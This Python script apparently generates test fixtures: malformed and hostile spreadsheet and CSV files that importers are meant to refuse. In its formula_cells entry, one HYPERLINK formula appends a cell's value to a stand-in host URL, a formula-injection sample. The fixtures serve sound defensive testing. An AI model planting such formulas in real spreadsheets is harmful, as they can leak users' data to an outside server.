"""Regenerate the bad-file corpus beside this script: `python tests/data/bad/make_bad_files.py`.

Each file is something a clumsy or hostile user can upload to an importer; every importer must
refuse each one with a message and write nothing. README.md says what each file is. The files are
small (the whole corpus stays under 200 KB) so they live in the repository.
"""
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
# A unit list as the unit import expects it, so a file that survives reading still meets real rows.
HEADER = ["code", "name", "kind", "parent_code", "area"]


def workbook_bytes(rows, title="Sheet"):
    book = Workbook()
    book.active.title = title
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def unit_rows(n):
    return [HEADER] + [[f"99{i:03d}", f"Xã Thử Nghiệm {i}", "xã", "24", "rural"] for i in range(n)]


def replace_member(data, member, transform):
    """The same zip with one member's bytes transformed (a fresh, valid zip around them)."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            target.writestr(name, transform(content) if name == member else content)
    return out.getvalue()


def png_bytes():
    """A real 1×1 PNG image."""
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


SHEET = "xl/worksheets/sheet1.xml"
SHEET_XML_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                  b'spreadsheetml/2006/main"><sheetData>')


def with_sheet_data(data, rows_xml):
    return replace_member(data, SHEET, lambda _old: SHEET_XML_HEAD + rows_xml + b"</sheetData></worksheet>")


def header_xml():
    cells = b"".join(b'<c r="%s1" t="inlineStr"><is><t>%s</t></is></c>' % (col.encode(), name.encode())
                     for col, name in zip("ABCDE", HEADER, strict=True))
    return b'<row r="1">' + cells + b"</row>"


def files():
    rnd = random.Random(7)  # the same "random" bytes every time
    good = workbook_bytes(unit_rows(40))
    base = workbook_bytes([HEADER])
    return {
        "truncated.xlsx": good[: len(good) // 2],
        "broken_sheet_xml.xlsx": replace_member(good, SHEET, lambda xml: xml[: len(xml) // 2]),
        "corrupt_zip_entry.xlsx": corrupt_entry(workbook_bytes(unit_rows(1200))),  # big enough to stream
        "bad_shared_string.xlsx": with_sheet_data(
            base, header_xml() + b'<row r="2"><c r="A2" t="s"><v>9999</v></c></row>'),
        "bad_cell_reference.xlsx": with_sheet_data(
            base, header_xml() + b'<row r="2"><c r="ZZZZZ2"><v>1</v></c></row>'),
        "not_a_spreadsheet.xlsx": png_bytes(),
        "pdf_renamed.xlsx": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "old_excel_or_password.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rnd.getrandbits(8) for _ in range(504)),
        "zip_not_xlsx.xlsx": zip_of({"readme.txt": b"not a workbook"}),
        "empty.xlsx": b"",
        "random.bin": bytes(rnd.getrandbits(8) for _ in range(2048)),
        "binary.csv": b"code,name,kind,parent_code\n99001,\x00\x01\x02\x03,x\xc3\xa3,24\n" + b"\x00" * 64,
        "control_chars.csv": "code,name,kind,parent_code\n99001,Xã\x07Chuông,xã,24\n".encode(),
        # 100,000 characters in one cell: over Excel's own 32,767, so openpyxl would cut it; written as XML.
        "huge_cell.xlsx": with_sheet_data(
            base, header_xml() + b'<row r="2"><c r="A2" t="inlineStr"><is><t>99001</t></is></c>'
                  b'<c r="B2" t="inlineStr"><is><t>' + b"X" * 100_000 + b"</t></is></c></row>"),
        "too_many_columns.xlsx": workbook_bytes([HEADER + [f"extra{i}" for i in range(200)], unit_rows(1)[1]]),
        "far_row.xlsx": with_sheet_data(
            base, header_xml() + b'<row r="1000000"><c r="A1000000"><v>1</v></c></row>'),
        "too_many_rows.xlsx": too_many_rows(),
        "formula_cells.xlsx": workbook_bytes([
            HEADER,
            ["=1+1", '=HYPERLINK("http://example.invalid/?"&B3,"bấm vào đây")', "=A2", "=1+1", "rural"],
        ]),
    }


def corrupt_entry(data):
    """Flip bytes three quarters into the sheet's compressed data: the zip opens and the sheet's
    first rows inflate, then zlib fails half-way through the rows."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(SHEET)
    name_length, extra_length = struct.unpack("<HH", data[info.header_offset + 26: info.header_offset + 30])
    start = info.header_offset + 30 + name_length + extra_length + info.compress_size * 3 // 4
    damaged = bytearray(data)
    for offset in range(start, start + 16):
        damaged[offset] ^= 0xFF
    return bytes(damaged)


def zip_of(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def too_many_rows():
    """60,001 data rows (one over the limit), all alike and without the optional row/cell references
    (Excel numbers them in order), so the zip packs them into a few kilobytes."""
    rows = b'<row><c><v>99001</v></c></row>' * 60_001
    return with_sheet_data(workbook_bytes([HEADER]), header_xml() + rows)


if __name__ == "__main__":
    for name, content in files().items():
        (HERE / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")
